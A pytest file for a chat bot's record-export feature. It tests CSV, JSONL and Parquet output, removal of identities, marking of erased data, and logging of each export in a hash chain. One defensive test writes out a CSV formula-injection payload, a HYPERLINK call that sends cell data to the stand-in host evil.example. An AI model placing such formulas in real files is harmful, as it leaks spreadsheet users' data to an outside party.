"""What was exported is what the list shows, harmless to spreadsheets, without identities, and known to the chain."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from hashlib import sha256

import pytest

from bot.answers.answer import Answer
from bot.record.erasure import erase_person, expire
from bot.record.errors import RecordError
from bot.record.export import exporting, rows
from bot.record.export.exporting import Export, zipped
from bot.record.export.formats import BOM, FIELDS, FORMATS, harmless
from bot.record.query import Filters
from bot.record.times import DAY, now
from bot.record.verify import verify
from tests.bot.record.made import ADA, ANSWER, AUDITOR, GRACE, NOT_FOUND, answered, incoming, received


@pytest.fixture(autouse=True)
def whole(database):
    """Whatever a test does, the chain and the tables agree afterwards."""
    yield
    assert verify(database).problems == ()


def export(record, named="jsonl", filters=None, **options) -> tuple[bytes, exporting.Manifest]:
    made = Export(record, filters or Filters(), named, AUDITOR, "0.1.0+abcd1234", **options)
    return b"".join(made), made.manifest


def read(named: str, data: bytes) -> list[dict[str, object]]:
    if named == "jsonl":
        return [json.loads(line) for line in data.splitlines()]
    if named == "csv":
        return list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    parquet = pytest.importorskip("pyarrow.parquet")
    return parquet.read_table(io.BytesIO(data)).to_pylist()


@pytest.mark.parametrize("named", FORMATS)
def test_every_format_holds_the_list(record, queries, named):
    first = answered(record)
    record.feedback(first.number, ADA, helpful=False, reason="that is the old rule")
    record.review(first.number, AUDITOR, "outdated", "superseded in May")
    answered(record, incoming("May I keep a dog?", GRACE), NOT_FOUND)
    received(record)
    data, manifest = export(record, named)
    found = read(named, data)
    listed = list(queries.every(Filters()))
    assert [row["receipt"] for row in found] == [each.number for each in listed]
    assert [row["question"] for row in found] == [each.question for each in listed]
    assert [row["person"] for row in found] == [each.person for each in listed]
    assert [row["outcome"] for row in found] == ["", "not_found", "answered"]
    assert [row["answer"] for row in found] == ["", NOT_FOUND.text, ANSWER.text]
    last = found[-1]
    documents = ["policies/leave.md", "handbook/expenses.md"]
    assert last["documents"] == ("; ".join(documents) if named == "csv" else documents)
    assert (last["feedback"], last["feedback_reason"]) == ("not_helpful", "that is the old rule")
    assert (last["verdict"], last["verdict_note"]) == ("outdated", "superseded in May")
    assert float(last["milliseconds"]) == 12.5
    assert manifest.rows == 3
    assert manifest.sha256 == sha256(data).hexdigest()
    assert manifest.size == len(data)


@pytest.mark.parametrize("named", FORMATS)
def test_an_empty_record_gives_a_whole_file(record, named):
    data, manifest = export(record, named)
    assert read(named, data) == []
    assert manifest.rows == 0
    if named == "csv":
        assert data.decode().split("\r\n")[0].split(",") == list(FIELDS)


def test_no_name_and_no_key_of_a_person_is_in_it(record):
    answered(record, incoming(person=ADA, channel="D0ADA"))
    for named in FORMATS:
        data, _ = export(record, named)
        assert not [word for word in (b"Ada Lovelace", b"slack:T1:U1", b"D0ADA") if word in data]


def test_what_was_erased_is_shown_as_erased(database, record):
    answered(record, incoming(person=ADA))
    answered(record, incoming(person=GRACE))
    erase_person(database, ADA.key, None)
    graces, adas = read("jsonl", export(record)[0])
    assert (adas["person"], adas["question"], adas["answer"]) == ("[erased]",) * 3
    assert adas["documents"]  # words of documents are nobody's
    assert "[erased]" not in (graces["person"], graces["question"], graces["answer"])
    expire(database, identity_days=1, text_days=None, at=now() + 2 * DAY)
    assert read("jsonl", export(record)[0])[0]["person"] == "[erased]"


def test_who_is_unknown_was_not_erased(record):
    answered(record, incoming(person=None))
    assert read("jsonl", export(record)[0])[0]["person"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(record, start):
    typed = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    answered(record, incoming(typed), Answer("answered", typed))
    data, _ = export(record, "csv")
    (row,) = read("csv", data)
    assert row["question"] == row["answer"] == f"'{typed}"
    cells = [cell for line in csv.reader(io.StringIO(data.decode(), newline="")) for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")]


def test_other_text_stays_as_it_is():
    assert harmless("a = b") == "a = b"
    assert harmless("") == ""


def test_text_of_every_kind_comes_back(record):
    typed = 'Ünïcode, "quotes", 日本語\nsecond line; 🙂 \ufffd'
    answered(record, incoming(typed))
    for named in FORMATS:
        assert read(named, export(record, named)[0])[0]["question"] == typed


def test_a_csv_file_may_begin_with_the_mark_of_utf8(record):
    data, manifest = export(record, "csv", bom=True)
    assert data.startswith(BOM + b"receipt,")
    assert manifest.sha256 == sha256(data).hexdigest()


def test_filters_hold_as_in_the_list(record):
    answered(record)
    answered(record, incoming("May I keep a dog?"), NOT_FOUND)
    data, manifest = export(record, filters=Filters(outcome="not_found", text="dog"))
    assert [row["question"] for row in read("jsonl", data)] == ["May I keep a dog?"]
    assert manifest.filters == {"outcome": "not_found"}
    assert manifest.typed_filters == ("text",)
    assert b"dog" not in manifest.as_json()


def test_many_batches_are_one_file(record, monkeypatch):
    monkeypatch.setattr(rows, "BATCH", 2)
    numbers = [answered(record).number for _ in range(5)]
    seen = []
    for named in FORMATS:
        data, _ = export(record, named, on_progress=lambda done, of: seen.append((done, of)))
        assert [row["receipt"] for row in read(named, data)] == numbers[::-1]
    assert seen == sorted(seen[:4]) * 3
    assert seen[-1] == (5, 5)


def test_an_export_is_one_state_of_the_record(record, monkeypatch):
    monkeypatch.setattr(rows, "BATCH", 1)
    numbers = [answered(record).number for _ in range(3)]
    made = Export(record, Filters(), "jsonl", AUDITOR, "code")
    pieces = iter(made)
    data = next(pieces)
    record.feedback(numbers[0], ADA, helpful=True)
    answered(record)
    data += b"".join(pieces)
    assert [row["receipt"] for row in read("jsonl", data)] == numbers[::-1]
    assert [row["feedback"] for row in read("jsonl", data)] == ["", "", ""]


def test_an_export_is_in_the_chain_from_beginning_to_end(database, record):
    answered(record)
    _, manifest = export(record, "csv", filters=Filters(text="leave", surface="slack"))
    with database.read() as connection:
        entries = connection.exec_driver_sql("SELECT seq, kind, body FROM entries ORDER BY seq").all()
        said = connection.exec_driver_sql(f"SELECT text FROM texts WHERE seq = {manifest.entry}").scalar_one()
    began, finished = entries[-2:]
    assert (began.seq, began.kind) == (manifest.entry, "exported")
    assert json.loads(began.body) == {"format": "csv", "filters": {"surface": "slack"}}
    assert json.loads(said) == {"text": "leave"}  # what was looked for can be erased
    assert finished.kind == "export_finished"
    assert json.loads(finished.body) == {
        "entry": manifest.entry,
        "sha256": manifest.sha256,
        "rows": 1,
        "bytes": manifest.size,
    }
    assert manifest.head.split()[0] == str(manifest.entry)


def test_one_broken_off_is_in_the_chain_and_has_no_manifest(database, record):
    answered(record)
    made = Export(record, Filters(), "jsonl", AUDITOR, "code")
    pieces = iter(made)
    next(pieces)
    pieces.close()
    with pytest.raises(RecordError, match="isn't finished"):
        made.manifest  # noqa: B018
    with database.read() as connection:
        kinds = connection.exec_driver_sql("SELECT kind FROM entries ORDER BY seq").scalars().all()
    assert kinds[-1] == "exported"


def test_an_archive_holds_the_file_and_its_manifest(record):
    answered(record)
    made = Export(record, Filters(), "csv", AUDITOR, "code")
    with zipfile.ZipFile(io.BytesIO(b"".join(zipped(made)))) as archive:
        assert archive.testzip() is None
        data = archive.read("rolecall-record.csv")
        manifest = json.loads(archive.read("manifest.json"))
    assert len(read("csv", data)) == 1
    assert manifest["sha256"] == sha256(data).hexdigest()
    assert manifest["file"] == "rolecall-record.csv"
